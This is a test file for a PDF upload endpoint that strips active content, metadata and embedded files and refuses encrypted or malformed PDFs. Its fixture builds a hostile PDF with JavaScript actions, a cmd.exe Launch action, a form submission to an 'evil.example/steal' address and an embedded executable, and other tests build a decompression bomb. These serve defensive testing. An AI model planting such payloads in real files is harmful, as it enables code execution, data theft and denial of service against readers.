import { deflateSync } from 'node:zlib';
import { decodePDFRawStream, PDFDocument, PDFName, PDFRawStream, StandardFonts } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startApp, type TestApp, type TestUser } from '../../../../../tests/support/app.ts';
import { createUploadForm, fetchFile, noiseImage, uploadPdf } from '../../../../../tests/support/uploads.ts';

// PDFs, through POST /api/items/upload-pdf and GET /uploads/{name}: what a reader could run, open or send is gone.

let t: TestApp;
let farmer: TestUser;

beforeAll(async () => {
  t = await startApp();
  farmer = await t.createUser();
});
afterAll(() => t.close());

type Objects = Readonly<Record<number, string | Buffer>>;

/** Writes objects by their numbers into a file; 1 is the catalog. */
const writePdf = (objects: Objects, trailer = '<</Root 1 0 R>>', before = ''): Buffer =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n${before}`),
    ...Object.entries(objects).flatMap(([number, body]) => [
      Buffer.from(`${number} 0 obj\n`),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n'),
    ]),
    Buffer.from(`trailer\n${trailer}\nstartxref\n9\n%%EOF\n`),
  ]);

const stream = (dict: string, data: string | Buffer): Buffer => {
  const body = Buffer.from(data);
  return Buffer.concat([
    Buffer.from(`<<${dict}/Length ${body.byteLength}>>\nstream\n`),
    body,
    Buffer.from('\nendstream'),
  ]);
};

const PAGES = {
  1: '<</Type/Catalog/Pages 2 0 R>>',
  2: '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  3: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>',
};

const send = async (bytes: Uint8Array) => {
  const body = createUploadForm(bytes, 'paper.pdf', 'application/pdf');
  return t.call('POST /api/items/upload-pdf', { as: farmer, body, lang: 'en' });
};
const rebuild = async (bytes: Uint8Array): Promise<Buffer> =>
  (await fetchFile(t.app, await uploadPdf(t, farmer, bytes), { as: farmer })).bytes;
const expectRefused = async (bytes: Uint8Array, message: RegExp): Promise<void> => {
  const { status, body } = await send(bytes);
  expect([status, body.code, body.errors]).toEqual([422, 'invalid', { image: [expect.stringMatching(message)] }]);
};

/** All objects of a file as text, with the contents of its streams. */
const dump = async (bytes: Uint8Array): Promise<string> => {
  const { context } = await PDFDocument.load(bytes, { updateMetadata: false });
  const texts = context.enumerateIndirectObjects().map(([, object]) => {
    if (!(object instanceof PDFRawStream)) return String(object);
    const isImage = object.dict.get(PDFName.of('Subtype')) === PDFName.of('Image');
    const data = isImage ? object.contents : decodePDFRawStream(object).decode();
    return `${String(object.dict)} ${Buffer.from(data).toString('latin1')}`;
  });
  return [...texts, String(context.trailerInfo.Info ?? '')].join('\n');
};

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

/** An action in every place where a PDF may have one, files, forms, and metadata. */
const hostile = (): Buffer =>
  writePdf(
    {
      ...PAGES,
      1:
        `<</Type/Catalog/Pages 2 0 R/OpenAction 20 0 R/AA<</WC ${SCRIPT}>>/Names<</JavaScript<</Names[(x) 20 0 R]>>` +
        `/EmbeddedFiles<</Names[(virus.exe) 21 0 R]>>>>/AcroForm<</Fields[10 0 R]/XFA 24 0 R>>/Metadata 23 0 R/AF[21 0 R]` +
        `/Outlines 26 0 R/URI<</Base(http://evil.example)>>>>`,
      2: `<</Type/Pages/Kids[3 0 R]/Count 1/AA<</O ${SCRIPT}>>/Rotate 90>>`,
      3:
        `<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O 20 0 R>>/PieceInfo<</Evil<</Private(secret)>>>>/Metadata 23 0 R` +
        `/Resources<</XObject<</X 14 0 R/AA 14 0 R>>/Font<</F 15 0 R>>>>/Contents 13 0 R` +
        `/Annots[10 0 R 11 0 R 12 0 R 16 0 R 17 0 R 18 0 R 19 0 R 27 0 R 29 0 R]>>`,
      10: `<</Type/Annot/Subtype/Widget/FT/Tx/T(field)/V(value)/Rect[0 0 9 9]/A 22 0 R/AA<</K ${SCRIPT}>>/AP<</N 14 0 R>>>>`,
      11: '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://onssa.gov.ma/certificat)>>>>',
      12: '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert\\(1\\))/Next 20 0 R>>>>',
      13: stream('', 'q 1 0 0 1 0 0 cm /X Do Q % visible'),
      14: stream('/Type/XObject/Subtype/Form/BBox[0 0 9 9]/PieceInfo<</Evil(secret)>>/Metadata 23 0 R', '0 0 9 9 re f'),
      15: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
      16: '<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 21 0 R>>',
      17: '<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(a) 21 0 R]>>>>>>',
      18: '<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/JS(evil)>>>>',
      19: '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>/PA<</S/URI/URI(http://evil.example)>>>>',
      20: SCRIPT,
      21: '<</Type/Filespec/F(virus.exe)/EF<</F 25 0 R>>>>',
      22: '<</S/SubmitForm/F(http://evil.example/steal)>>',
      23: stream('/Type/Metadata/Subtype/XML', '<x:xmpmeta>secret author</x:xmpmeta>'),
      24: stream('', '<xdp:xdp>evil</xdp:xdp>'),
      25: stream('/Type/EmbeddedFile', 'MZ evil'),
      26: `<</Type/Outlines/First<</Title(evil)/A ${SCRIPT}>>>>`,
      27: '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(http://evil.example/x.pdf)>>/Dest[3 0 R/Fit]>>',
      29: String.raw`<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://x\)/S/JS/JS\()>>>>`,
      28: '<</Author(secret author)/Title(secret)/Producer(evil)>>',
    },
    '<</Root 1 0 R/Info 28 0 R>>',
    '<html><script>alert(1)</script></html>\n',
  );

describe('POST /api/items/upload-pdf › writes a PDF anew', () => {
  test('without what runs, opens or sends anything, without files, metadata and foreign bytes', async () => {
    const before = await dump(hostile());
    const bytes = await rebuild(Buffer.concat([hostile(), Buffer.from('\n<script>alert(2)</script>')]));
    expect(bytes.toString('latin1')).toMatch(/^%PDF-1\.7\n[^]*%%EOF$/);
    expect(bytes.includes('script')).toBe(false);
    const after = await dump(bytes);
    const gone =
      /JavaScript|\/JS|OpenAction|\/AA <|Launch|SubmitForm|GoToR|Rendition|EmbeddedFile|Filespec|\/EF|XFA|RichMedia|FileAttachment|Metadata|PieceInfo|Outlines|AcroForm|Author|xmpmeta|secret|evil|virus|javascript/;
    expect(before).toMatch(gone);
    expect(after.match(gone)).toBeNull();
    // What the page shows is still there, also what has the name of something removed.
    expect(after).toContain('% visible');
    expect(after).toContain('0 0 9 9 re f');
    expect(after).toContain('/BaseFont /Helvetica');
    expect(after).toMatch(/\/AA \d+ 0 R/);
    for (const address of ['https://onssa.gov.ma/certificat', 'https://x)/S/JS/JS(']) {
      expect(after).toContain(`/URI <${Buffer.from(address).toString('hex')}>`);
    }
    const document = await PDFDocument.load(bytes);
    expect([document.getPageCount(), document.getPage(0).getRotation().angle]).toEqual([1, 90]);
  });

  test('without the place and camera of its photos, whose pixels stay', async () => {
    const jpeg = await noiseImage(60, 40)
      .withExif({ IFD0: { Make: 'SecretCamera' }, IFD3: { GPSLatitude: '31/1 37/1 0/1' } })
      .jpeg()
      .toBuffer();
    const source = await PDFDocument.create();
    const image = await source.embedJpg(jpeg);
    source.addPage([99, 99]).drawImage(image);
    const written = await source.save();
    expect(await dump(written)).toContain('SecretCamera');
    const bytes = await rebuild(written);
    const text = await dump(bytes);
    expect(text).not.toContain('SecretCamera');
    const start = text.indexOf('\u00ff\u00d8\u00ff');
    const { data } = await sharp(Buffer.from(text.slice(start), 'latin1'))
      .raw()
      .toBuffer({ resolveWithObject: true });
    expect(data.equals(await sharp(jpeg).raw().toBuffer())).toBe(true);
  });

  test('without objects that it cannot read', async () => {
    const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents[4 0 R 5 0 R]>>';
    const objects = { ...PAGES, 3: page, 4: `<</S/JavaScript/JS(evil)/X ${'['.repeat(100_000)}`, 5: '<</JS <</Y>>' };
    const text = (await rebuild(writePdf(objects))).toString('latin1');
    expect(text).not.toMatch(/JS|evil|\[\[/);
  });

  test('with its text, fonts and pages', async () => {
    const source = await PDFDocument.create();
    const font = await source.embedFont(StandardFonts.Courier);
    for (const word of ['Argane', 'Huile']) source.addPage([200, 100]).drawText(word, { font, size: 12 });
    const after = await dump(await rebuild(await source.save()));
    for (const word of ['Argane', 'Huile']) expect(after).toContain(Buffer.from(word).toString('hex').toUpperCase());
    expect(after.match(/\/Type \/Page\n/g)).toHaveLength(2);
  });
});

describe('POST /api/items/upload-pdf › refuses', () => {
  test('a PDF with a password', async () => {
    const encrypt = '<</Filter/Standard/V 1/R 2/O<00>/U<00>/P -4>>';
    const trailer = '<</Root 1 0 R/Encrypt 9 0 R/ID[<00><00>]>>';
    await expectRefused(writePdf({ ...PAGES, 9: encrypt }, trailer), /password/);
    const source = await PDFDocument.create();
    source.addPage();
    source.encrypt({ ownerPassword: 'owner', userPassword: 'user' });
    await expectRefused(await source.save(), /password/);
  });

  const bomb = (): Buffer => deflateSync(Buffer.alloc(200 * 1024 * 1024, ' '), { level: 1 });
  test.each<[string, () => Buffer]>([
    ['without pages', () => writePdf({ ...PAGES, 2: '<</Type/Pages/Kids[]/Count 0>>' })],
    ['without a catalog', () => writePdf({ 3: PAGES[3] })],
    ['whose page tree is a circle', () => writePdf({ ...PAGES, 2: '<</Type/Pages/Kids[2 0 R]/Count 1>>' })],
    [
      'with a million pages',
      () => writePdf({ ...PAGES, 2: `<</Type/Pages/Kids[${'3 0 R '.repeat(1_000_000)}]/Count 1>>` }),
    ],
    [
      'whose compressed objects are 200 MB',
      () => writePdf({ ...PAGES, 4: stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', bomb()) }),
    ],
    [
      'of which the middle is lost',
      () => Buffer.concat([hostile().subarray(0, 80), Buffer.from('\nstartxref\n9\n%%EOF')]),
    ],
  ])('a PDF %s', async (_, make) => {
    await expectRefused(make(), /damaged/);
  });

  test('random damage, or writes a file that opens', async () => {
    let seed = 7;
    const random = (below: number): number => (seed = (seed * 48_271) % 2_147_483_647) % below;
    const outcomes = new Set<number>();
    for (let round = 0; round < 6; round += 1) {
      const bytes = hostile();
      for (let i = 0; i < 12; i += 1) bytes[10 + random(bytes.byteLength - 60)] = random(256);
      const { status, body } = await send(bytes);
      outcomes.add(status);
      expect([200, 422]).toContain(status);
      if (status !== 200) continue;
      const stored = await fetchFile(t.app, (body as { image_path: string }).image_path, { as: farmer });
      expect((await dump(stored.bytes)).match(/JavaScript|\/JS|Launch|SubmitForm|EmbeddedFile/)).toBeNull();
    }
    expect(outcomes.has(200)).toBe(true);
  });
});

test('POST /api/items/upload-pdf › answers other requests meanwhile', async () => {
  const many = Object.fromEntries(Array.from({ length: 60_000 }, (_, n) => [n + 10, `<</A[1 2 3]/B(${n})>>`]));
  const order: string[] = [];
  const written = rebuild(writePdf({ ...PAGES, ...many })).then(() => order.push('written'));
  for (let n = 0; n < 20; n += 1) await fetchFile(t.app, '/uploads/unknown').then(() => order.push('other'));
  await written;
  expect(order.slice(-1)).toEqual(['written']);
});
